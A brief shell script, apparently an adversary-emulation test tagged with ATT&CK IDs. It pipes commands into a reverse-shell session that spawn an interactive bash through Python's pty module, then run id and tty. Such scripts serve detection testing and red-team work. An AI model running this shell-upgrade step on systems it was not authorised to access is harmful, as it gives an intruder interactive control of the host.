# The code in a script file.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
echo 'import pty; pty.spawn("/bin/bash")' > /tmp/x.py
python3 /tmp/x.py
id
tty
exit
exit
TYPED
